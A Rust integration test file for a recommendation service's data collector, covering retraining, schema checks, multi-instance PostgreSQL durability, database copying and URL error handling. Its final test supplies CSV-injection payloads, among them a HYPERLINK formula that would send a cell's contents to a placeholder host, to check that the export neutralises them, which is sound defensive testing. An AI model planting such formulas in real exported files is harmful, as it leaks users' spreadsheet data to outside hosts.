//! The collector's storage and retraining against the real server and CLI: warm-started
//! retraining, scoring on rows neither bundle learned from, the schema version check, two
//! `serve` instances on one PostgreSQL database (one killed mid-stream), a brand described to
//! one instance known to the other, `copy-db` between backends, and unusable URLs. The tests
//! of one backend-generic function run on both (`sqlite::` and `postgres::`), as in
//! `tests/collector.rs`; both include `tests/collector/common.rs`.
#![cfg(not(target_arch = "wasm32"))]
#![allow(dead_code)] // the shared helpers: each file uses a subset

include!("collector/common.rs");

on_both_backends!(
    retrain_publishes_warm_starts_while_the_vocabulary_holds_and_refits_when_it_changes,
    retrain_scores_only_rows_neither_bundle_learned_from_and_keeps_the_bundle_when_too_few_or_worse,
    a_newer_schema_is_refused_at_start,
    export_writes_no_cell_a_spreadsheet_would_run,
);

/// Stores rows straight into the collector's database (as the server would), with no source
/// (each device then counts as its own).
fn store(db: &TestDb, body: &[u8], brands: &[String], infs: &[String]) {
    store_from(db, body, brands, infs, "")
}

/// [`store`], as if from the address whose salted hash is `source`.
fn store_from(db: &TestDb, body: &[u8], brands: &[String], infs: &[String], source: &str) {
    use influence_rec::collector::wire::{parse_batch, Known};
    let known = Known {
        influencers: infs.iter().map(|n| influence_rec::text::key(n)).collect(),
        brands: brands.iter().map(|n| influence_rec::text::key(n)).collect(),
    };
    let v: Value = serde_json::from_slice(body).expect("json");
    let id = v["batch_id"].as_str().expect("batch id");
    let batch = parse_batch(
        body,
        Some(id),
        &known,
        &Default::default(),
        &Default::default(),
        now_ms(),
    )
    .expect("batch");
    assert!(batch.rejected.is_empty(), "{:?}", batch.rejected);
    let mut batch = batch;
    batch.source = source.to_string();
    let target = influence_rec::collector::DbTarget::parse(&db.arg);
    influence_rec::collector::block_on(async {
        target.open().await?.store(&batch, now_ms()).await
    })
    .expect("stored");
}

fn retrain_publishes_warm_starts_while_the_vocabulary_holds_and_refits_when_it_changes(
    backend: Backend,
) {
    let (site, brands, infs) = site();
    let d = site.path();
    let db = TestDb::new(backend, d, "c.db");
    // One test device is one source, and warm starts are the point here, not the comparison.
    let run = || {
        run_retrain(
            d,
            &db.rel,
            &[
                "--min-holdout",
                "1",
                "--min-holdout-sources",
                "1",
                "--force",
            ],
        )
    };
    let retrain = || -> String {
        let o = run();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let manifest = || -> String {
        let m: Value =
            serde_json::from_slice(&std::fs::read(d.join("pkg/manifest.json")).expect("m"))
                .expect("json");
        m["version"].as_str().expect("version").to_string()
    };
    let rows = |tag: &str, brand: &str| -> Vec<Value> {
        (0..8)
            .map(|i| {
                row(
                    &format!("{tag}{i}"),
                    brand,
                    &infs[(i * 11) % infs.len()],
                    "collaboration",
                    10.0,
                )
            })
            .collect()
    };
    store(&db, &batch("r1", rows("a", &brands[0])), &brands, &infs);
    let v0 = manifest();
    let out = retrain();
    assert!(
        out.contains("factorization: full refit (no trainer state yet)"),
        "{out}"
    );
    assert!(out.contains("new bundle:       NDCG@10"), "{out}");
    assert!(out.contains("published bundle: NDCG@10"), "{out}");
    assert!(out.contains("\npublished "), "{out}");
    assert_ne!(manifest(), v0);
    assert!(
        d.join(format!("{}.trainer", db.beside)).exists(),
        "the trainer state is kept for the next retrain"
    );
    // More rows from known brands: same vocabularies, so training continues from the state.
    store(&db, &batch("r2", rows("b", &brands[1])), &brands, &infs);
    let out = retrain();
    assert!(
        out.contains(&format!(
            "factorization: warm start from {}.trainer (fit_partial, 10 epochs)",
            db.beside
        )),
        "{out}"
    );
    // A new brand adds an identity feature: the vocabulary changed, so a full refit.
    let new_brand = serde_json::to_vec(&json!({
        "format": "influence-rec/interactions", "version": 1, "batch_id": "r3",
        "brands": [{"name": "Peak Outfitters", "description": "climbing gear"}],
        "rows": rows("c", "Peak Outfitters")
    }))
    .expect("json");
    store(&db, &new_brand, &brands, &infs);
    let out = retrain();
    assert!(
        out.contains("factorization: full refit (the brands' features changed"),
        "{out}"
    );
    let b = std::fs::read(d.join("pkg/model.bundle")).expect("bundle");
    let (_, b) = influence_rec::bundle::read(&b, "model.bundle").expect("loads");
    assert!(
        b.catalog
            .brands()
            .iter()
            .any(|x| x.name == "Peak Outfitters"),
        "the new brand its rows name is in the data now"
    );
    assert!(
        !b.catalog.brands().iter().any(|x| x.name == "Trail Gear"),
        "a profile no row named was never stored"
    );
    // A trainer state that is not one is refused with a typed error naming the file.
    std::fs::write(d.join(format!("{}.trainer", db.beside)), b"garbage").expect("write");
    let o = run();
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains(&format!(
        "{}.trainer: not an influence-rec bundle",
        db.beside
    )));
}

fn retrain_scores_only_rows_neither_bundle_learned_from_and_keeps_the_bundle_when_too_few_or_worse(
    backend: Backend,
) {
    let (site, brands, infs) = site();
    let d = site.path();
    let db = TestDb::new(backend, d, "c.db");
    let retrain = |extra: &[&str]| -> String {
        let o = run_retrain(d, &db.rel, extra);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let bundle_bytes = || std::fs::read(d.join("pkg/model.bundle")).expect("bundle");
    let t0 = now_ms() - 3_600_000;
    let timed = |id: String, brand: &str, inf: &str, kind: &str, points: f64, ts: i64| json!({"event_id": id, "brand": brand, "influencer": inf, "kind": kind, "points": points, "timestamp_ms": ts});
    let rows: Vec<Value> = (0..30)
        .map(|i| {
            timed(
                format!("a{i:02}"),
                &brands[i % 2],
                &infs[(i * 7) % infs.len()],
                "click",
                1.0,
                t0 + i as i64,
            )
        })
        .collect();
    // From five addresses, six rows each.
    for (i, chunk) in rows.chunks(6).enumerate() {
        let id = format!("r1-{i}");
        store_from(
            &db,
            &batch(&id, chunk.to_vec()),
            &brands,
            &infs,
            &format!("s{i}"),
        );
    }
    // One address alone cannot decide a comparison.
    let lone = TestDb::new(backend, d, "lone.db");
    store(&lone, &batch("r1", rows.clone()), &brands, &infs);
    let o = run_retrain(d, &lone.rel, &["--min-holdout", "5"]);
    let lone_out = String::from_utf8_lossy(&o.stdout);
    assert!(
        lone_out.contains("too few sources to compare fairly: the held-out interactions come from 1 sources (addresses), --min-holdout-sources is 3"),
        "{lone_out}"
    );
    assert!(
        lone_out.contains("not published: keeping the published bundle"),
        "{lone_out}"
    );
    drop(lone);
    // The bundle `train` wrote learned from no collected row: all 30 are fair to score on.
    let out = retrain(&["--min-holdout", "5", "--force"]);
    assert!(
        out.contains("30 since the published bundle was trained; holding out the newest 6 of their interactions (by receipt time, from 3 sources)"),
        "{out}"
    );
    assert!(out.contains("published bundle: NDCG@10"), "{out}");
    assert!(out.contains("\npublished "), "{out}");
    let record: Value = serde_json::from_slice(
        &std::fs::read(d.join(format!("{}.published", db.beside))).expect("record"),
    )
    .expect("json");
    assert_eq!(record["format"], "influence-rec/retrain-record");
    let published = bundle_bytes();
    // Nothing new since: the published bundle trained on every row, so nothing is fair to
    // compare on; it is kept (before: it was scored on rows it had trained on, and won).
    let out = retrain(&[]);
    assert!(
        out.contains("0 since the published bundle was trained"),
        "{out}"
    );
    assert!(
        out.contains("too few new interactions to compare fairly: 0 held out, --min-holdout is 20"),
        "{out}"
    );
    assert!(
        out.contains("not published: keeping the published bundle"),
        "{out}"
    );
    assert_eq!(bundle_bytes(), published);
    let out = retrain(&["--force"]);
    assert!(out.contains("\npublished "), "{out}");

    // Worse: the newest interactions are with the published bundle's own top influencers for
    // a brand, the older new ones pull the candidate elsewhere (collaborations with others).
    let (_, b) = influence_rec::bundle::read(&bundle_bytes(), "model.bundle").expect("bundle");
    let rec = b.recommender("model.bundle").expect("rec");
    let brand = &brands[2];
    let req = influence_rec::rank::RankRequest {
        by: influence_rec::rank::RankBy::Ranker,
        ..Default::default()
    };
    let ranking = rec
        .rank(influence_rec::rank::Who::Known(brand), infs.len(), &req)
        .expect("ranks");
    let order: Vec<String> = ranking
        .recommendations
        .iter()
        .map(|r| r.name.clone())
        .collect();
    let t1 = now_ms() - 60_000;
    let mut rows: Vec<Value> = order[order.len() - 40..]
        .iter()
        .enumerate()
        .map(|(i, inf)| {
            timed(
                format!("w{i:02}"),
                brand,
                inf,
                "collaboration",
                10.0,
                t1 + i as i64,
            )
        })
        .collect();
    rows.extend((0..10).map(|i| {
        timed(
            format!("x{i:02}"),
            brand,
            &order[i],
            "click",
            1.0,
            t1 + 100 + i as i64,
        )
    }));
    // Each address sends some of the older rows, then some of the newer ones.
    let (older, newer) = rows.split_at(40);
    for (i, chunk) in older.chunks(8).enumerate() {
        store_from(
            &db,
            &batch(&format!("r2-{i}"), chunk.to_vec()),
            &brands,
            &infs,
            &format!("s{i}"),
        );
    }
    for (i, chunk) in newer.chunks(2).enumerate() {
        store_from(
            &db,
            &batch(&format!("r3-{i}"), chunk.to_vec()),
            &brands,
            &infs,
            &format!("s{i}"),
        );
    }
    let published = bundle_bytes();
    let out = retrain(&["--min-holdout", "5"]);
    assert!(
        out.contains("50 since the published bundle was trained; holding out the newest 10"),
        "{out}"
    );
    assert!(
        out.contains("not published: the new bundle scores worse"),
        "{out}"
    );
    assert_eq!(bundle_bytes(), published);
}

/// The schema check: a database whose schema is newer than this build's is refused at start,
/// naming the versions, on both backends; an older build's database (here: the current one,
/// reopened) is accepted as it is.
fn a_newer_schema_is_refused_at_start(backend: Backend) {
    use influence_rec::collector::SCHEMA_VERSION;
    let (site, _, _) = site();
    let db = TestDb::new(backend, site.path(), "c.db");
    let target = influence_rec::collector::DbTarget::parse(&db.arg);
    influence_rec::collector::block_on(async { target.open().await.map(|_| ()) }).expect("opens");
    influence_rec::collector::block_on(async { target.open().await.map(|_| ()) })
        .expect("opens again (migrations already applied)");
    match backend {
        Backend::Sqlite => {
            let c = rusqlite::Connection::open(&db.arg).expect("db");
            c.pragma_update(None, "user_version", SCHEMA_VERSION + 1)
                .expect("bump");
        }
        Backend::Postgres => {
            pg_sql(
                &db.arg,
                &format!("INSERT INTO influence_rec_schema (version, applied_ms, writer) VALUES ({}, 0, 'a later build')", SCHEMA_VERSION + 1),
            );
        }
    }
    let o = Command::new(BIN)
        .args(["serve", "--root"])
        .arg(site.path())
        .args(["--addr", &format!("127.0.0.1:{}", port(0)), "--db", &db.arg])
        .output()
        .expect("runs");
    assert!(!o.status.success(), "a newer schema must not be served");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains(&format!(
            "schema version {} is newer than this build's {SCHEMA_VERSION}",
            SCHEMA_VERSION + 1
        )),
        "{err}"
    );
    assert!(!err.contains("panicked"), "{err}");
}

/// Two `serve` instances on one PostgreSQL database behind a "load balancer" of clients: each
/// batch goes to one instance and, until it is answered, is retried on the other; one instance
/// is SIGKILLed mid-stream and restarted, then the other. Afterwards every row is stored
/// exactly once, every acknowledged row is stored, and no row was reported as stored now
/// (`accepted`) by two answers.
#[test]
fn two_instances_on_one_postgres_one_killed_mid_stream_store_every_row_once() {
    let (site, brands, infs) = site();
    let db = TestDb::new(Backend::Postgres, site.path(), "c.db");
    let ports = [port(0), port(1)];
    // Both instances start together on a fresh database: the migration runs once.
    let mut servers = [
        Some(Server::start(
            site.path(),
            &db.arg,
            ports[0],
            NO_RATE_LIMITS,
        )),
        Some(Server::start(
            site.path(),
            &db.arg,
            ports[1],
            NO_RATE_LIMITS,
        )),
    ];
    const CLIENTS: usize = 4;
    const BATCHES: usize = 80;
    const ROWS: usize = 20;
    let progress = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let clients: Vec<_> = (0..CLIENTS)
        .map(|c| {
            let (brands, infs, progress) = (brands.clone(), infs.clone(), progress.clone());
            std::thread::spawn(move || {
                let (mut accepted, mut duplicates, mut retries) = (Vec::new(), Vec::new(), 0u32);
                for b in 0..BATCHES {
                    let id = format!("c{c}-b{b:03}");
                    let rows: Vec<Value> = (0..ROWS)
                        .map(|i| {
                            row(
                                &format!("{id}-{i:02}"),
                                &brands[(b + i) % brands.len()],
                                &infs[(c * 31 + b * 7 + i) % infs.len()],
                                "click",
                                1.0,
                            )
                        })
                        .collect();
                    let mut body: Value = serde_json::from_slice(&batch(&id, rows)).expect("json");
                    body["device_id"] = json!(format!("client-{c}"));
                    let body = serde_json::to_vec(&body).expect("json");
                    let deadline = Instant::now() + Duration::from_secs(60);
                    // Spread over both; a failed try moves to the other instance.
                    let mut target = (b + c) % 2;
                    loop {
                        let addr = format!("127.0.0.1:{}", ports[target]);
                        match post(&addr, &body, Some(&id)) {
                            Some((200, ack)) => {
                                accepted.extend(ids(&ack, "accepted"));
                                duplicates.extend(ids(&ack, "duplicates"));
                                progress.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                                break;
                            }
                            _ => {
                                retries += 1;
                                assert!(Instant::now() < deadline, "batch {id} never acknowledged");
                                target = 1 - target;
                                std::thread::sleep(Duration::from_millis(10));
                            }
                        }
                    }
                }
                (accepted, duplicates, retries)
            })
        })
        .collect();
    let wait_for = |n: usize| {
        while progress.load(std::sync::atomic::Ordering::SeqCst) < n {
            std::thread::sleep(Duration::from_millis(1));
        }
    };
    let total = CLIENTS * BATCHES;
    // Kill instance 0 a quarter of the way in, restart it; kill instance 1 at 60%, restart.
    let mut kills = 0;
    for (at, which) in [(total / 4, 0usize), (total * 3 / 5, 1usize)] {
        wait_for(at);
        servers[which].take().expect("running").kill();
        kills += 1;
        std::thread::sleep(Duration::from_millis(300));
        servers[which] = Some(Server::start(
            site.path(),
            &db.arg,
            ports[which],
            NO_RATE_LIMITS,
        ));
    }
    let (mut accepted, mut duplicates, mut retries) = (Vec::new(), Vec::new(), 0);
    for c in clients {
        let (a, d, r) = c.join().expect("client");
        accepted.extend(a);
        duplicates.extend(d);
        retries += r;
    }
    let sent = total * ROWS;
    let stored = db.stored();
    let mut acked: Vec<String> = accepted.iter().chain(&duplicates).cloned().collect();
    acked.sort();
    acked.dedup();
    let mut once = accepted.clone();
    once.sort();
    once.dedup();
    println!(
        "two instances, {kills} SIGKILLs: {sent} rows sent in {total} batches by {CLIENTS} clients, \
         {} acknowledged, {} stored ({} distinct), {} answered as stored now, {} as duplicates, \
         {retries} retries",
        acked.len(),
        stored.len(),
        {
            let mut s = stored.clone();
            s.dedup();
            s.len()
        },
        accepted.len(),
        duplicates.len()
    );
    assert!(retries > 0, "the kills interrupted the clients");
    assert_eq!(acked.len(), sent, "every batch was acknowledged in the end");
    assert_eq!(stored, acked, "every acknowledged row stored, exactly once");
    assert_eq!(
        once.len(),
        accepted.len(),
        "no row was stored now by two answers"
    );
    // The schema was applied once though both instances started on the fresh database.
    let versions = pg_sql(
        &db.arg,
        "SELECT count(*), count(DISTINCT version) FROM influence_rec_schema",
    );
    let n = influence_rec::collector::SCHEMA_VERSION.to_string();
    assert_eq!(versions, [[n.clone(), n]]);
    drop(servers);
}

/// A new brand described in a batch to one instance is known to the other: a later batch of
/// its rows without the description, sent to the other instance, is stored (the instance
/// looks the brand up in the shared database before refusing the rows).
#[test]
fn a_brand_described_to_one_instance_is_known_to_the_other() {
    let (site, _, infs) = site();
    let db = TestDb::new(Backend::Postgres, site.path(), "c.db");
    let a = Server::start(site.path(), &db.arg, port(0), NO_RATE_LIMITS);
    let b = Server::start(site.path(), &db.arg, port(1), NO_RATE_LIMITS);
    // B loads its names first (an answered request), so its cache predates the brand.
    let none = serde_json::to_vec(&json!({
        "format": "influence-rec/interactions", "version": 1, "batch_id": "warm", "rows": []
    }))
    .expect("json");
    assert_eq!(post(&b.addr, &none, Some("warm")).expect("answer").0, 200);
    let first = batch(
        "first",
        vec![row("f1", "Trail Gear", &infs[0], "pairing", 0.0)],
    );
    let (status, ack) = post(&a.addr, &first, Some("first")).expect("answer");
    assert_eq!(
        (status, ids(&ack, "accepted")),
        (200, vec!["f1".to_string()])
    );
    let later = serde_json::to_vec(&json!({
        "format": "influence-rec/interactions", "version": 1, "batch_id": "later",
        "rows": [row("l1", "trail gear", &infs[1], "click", 1.0), row("l2", "Nobody Else", &infs[1], "click", 1.0)]
    }))
    .expect("json");
    let (status, ack) = post(&b.addr, &later, Some("later")).expect("answer");
    assert_eq!(status, 200, "{ack}");
    assert_eq!(ids(&ack, "accepted"), ["l1"]);
    assert_eq!(ack["rejected"][0]["event_id"], "l2");
    assert_eq!(db.stored(), ["f1", "l1"]);
    // Described again, differently, to the other instance: still one profile, the first.
    let again = serde_json::to_vec(&json!({
        "format": "influence-rec/interactions", "version": 1, "batch_id": "again",
        "brands": [{"name": "TRAIL GEAR", "description": "something else"}],
        "rows": [row("a1", "Trail Gear", &infs[2], "click", 1.0)]
    }))
    .expect("json");
    assert_eq!(post(&b.addr, &again, Some("again")).expect("answer").0, 200);
    let target = influence_rec::collector::DbTarget::parse(&db.arg);
    let profiles =
        influence_rec::collector::block_on(async { target.open().await?.brands().await })
            .expect("brands");
    assert_eq!(profiles.len(), 1, "{profiles:?}");
    assert_eq!(profiles[0].name, "Trail Gear");
    assert_eq!(profiles[0].description, "hiking boots");
}

/// `copy-db` moves a SQLite collector's rows and new brands to PostgreSQL with where each row
/// came from, and run again copies nothing twice; back to a fresh SQLite file gives the same.
#[test]
fn copy_db_moves_rows_and_brands_between_backends_once() {
    let (site, brands, infs) = site();
    let from = TestDb::new(Backend::Sqlite, site.path(), "c.db");
    let to = TestDb::new(Backend::Postgres, site.path(), "c.db");
    let server = Server::start(site.path(), &from.arg, port(0), NO_RATE_LIMITS);
    for b in 0..3 {
        let id = format!("b{b}");
        let mut rows: Vec<Value> = (0..5)
            .map(|i| {
                row(
                    &format!("{id}-{i}"),
                    &brands[i % 2],
                    &infs[b * 5 + i],
                    "click",
                    1.0,
                )
            })
            .collect();
        rows.push(row(
            &format!("{id}-new"),
            "Trail Gear",
            &infs[0],
            "pairing",
            0.0,
        ));
        let (status, _) = post(&server.addr, &batch(&id, rows), Some(&id)).expect("answer");
        assert_eq!(status, 200);
    }
    drop(server);
    let copy = |from: &str, to: &str| -> String {
        let o = Command::new(BIN)
            .args(["copy-db", "--from", from, "--to", to])
            .output()
            .expect("runs");
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let out = copy(&from.arg, &to.arg);
    assert!(
        out.contains(": 18 interactions (18 new, 0 there already), 1 new-brand profiles"),
        "{out}"
    );
    let read = |db: &TestDb| {
        let target = influence_rec::collector::DbTarget::parse(&db.arg);
        influence_rec::collector::block_on(async {
            let s = target.open().await?;
            Ok((s.rows().await?, s.brands().await?))
        })
        .expect("reads")
    };
    let (a, a_brands) = read(&from);
    let (b, b_brands) = read(&to);
    assert_eq!(a, b, "the same rows, with batch, device and time received");
    assert_eq!(a_brands, b_brands);
    let out = copy(&from.arg, &to.arg);
    assert!(out.contains("(0 new, 18 there already)"), "{out}");
    assert_eq!(to.stored().len(), 18);
    // And back, into a fresh SQLite file.
    let back = TestDb::new(Backend::Sqlite, site.path(), "back.db");
    copy(&to.arg, &back.arg);
    assert_eq!(read(&back), (a, a_brands));
    // A source that does not exist is an error naming it, not an empty copy.
    let o = Command::new(BIN)
        .args(["copy-db", "--from", "no-such.db", "--to", &back.arg])
        .output()
        .expect("runs");
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("no-such.db"));
}

/// A PostgreSQL database that cannot be used is a clear error at start (what failed, the URL
/// without its password), never a panic or a server that answers 503 forever.
#[test]
fn an_unusable_postgres_url_is_refused_at_start_with_the_reason() {
    let (site, _, _) = site();
    let run = |db: &str| {
        let o = Command::new(BIN)
            .args(["serve", "--root"])
            .arg(site.path())
            .args(["--addr", &format!("127.0.0.1:{}", port(0)), "--db", db])
            .output()
            .expect("runs");
        assert!(!o.status.success(), "{db} must not be served");
        String::from_utf8_lossy(&o.stderr).into_owned()
    };
    // Nothing listens on port 1.
    let err = run("postgres://ir:hunter22@127.0.0.1:1/ir");
    assert!(err.contains("Connection refused"), "{err}");
    assert!(err.contains("postgres://ir:***@127.0.0.1:1/ir"), "{err}");
    assert!(
        !err.contains("hunter22"),
        "the password is not printed: {err}"
    );
    let err = run("postgres://ir@127.0.0.1:1/ir?sslmode=require");
    assert!(err.contains("sslmode=require"), "{err}");
    let err = run("postgres://ir@127.0.0.1:1/ir?no_such_option=1");
    assert!(err.contains("not a PostgreSQL URL"), "{err}");
    assert!(!err.contains("panicked"), "{err}");
}

/// Client text (a new brand's name and description, here) that starts like a spreadsheet
/// formula is written defused by `export` (OWASP CSV injection: a leading apostrophe), in
/// every file it writes, and the product's own CSV reader takes it back exactly.
fn export_writes_no_cell_a_spreadsheet_would_run(backend: Backend) {
    let (site, _brands, infs) = site();
    let db = TestDb::new(backend, site.path(), "c.db");
    let server = Server::start(site.path(), &db.arg, port(30), NO_RATE_LIMITS);
    let hostile = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "'=already quoted",
    ];
    let body = serde_json::to_vec(&json!({
        "format": "influence-rec/interactions", "version": 1, "batch_id": "csv",
        "device_id": "dev", "sent_at_ms": now_ms(),
        "brands": hostile.iter().map(|n| json!({"name": n, "description": "=1+1 @x"})).collect::<Vec<_>>(),
        "rows": hostile.iter().enumerate()
            .map(|(i, n)| row(&format!("r{i}"), n, &infs[i], "pairing", 0.0))
            .collect::<Vec<_>>(),
    }))
    .expect("json");
    let (status, ack) = post(&server.addr, &body, Some("csv")).expect("answer");
    assert_eq!(status, 200, "{ack}");
    assert_eq!(ids(&ack, "accepted").len(), hostile.len(), "{ack}");
    drop(server);
    let out = site.path().join("export");
    let o = Command::new(BIN)
        .args(["export", "--db", &db.arg, "--bundle"])
        .arg(site.path().join("pkg/model.bundle"))
        .arg("--out")
        .arg(&out)
        .output()
        .expect("export runs");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    for file in ["interactions.csv", "brands.csv", "relationships.csv"] {
        let mut rdr = csv::Reader::from_path(out.join(file)).expect(file);
        for rec in rdr.records() {
            let rec = rec.expect("a record");
            for cell in rec.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file}: {cell:?} would run as a formula"
                );
            }
        }
    }
    // The values come back exactly through the product's cell reader: the new brands' names,
    // and the brand column of the interactions.
    let column = |file: &str, col: usize| -> Vec<String> {
        let mut v: Vec<String> = csv::Reader::from_path(out.join(file))
            .expect(file)
            .records()
            .map(|r| influence_rec::text::csv_uncell(&r.expect("record")[col]).to_string())
            .collect();
        v.sort();
        v
    };
    let mut want: Vec<String> = hostile.iter().map(|s| s.to_string()).collect();
    want.sort();
    assert_eq!(column("brands.csv", 0), want);
    assert_eq!(column("interactions.csv", 1), want);
}
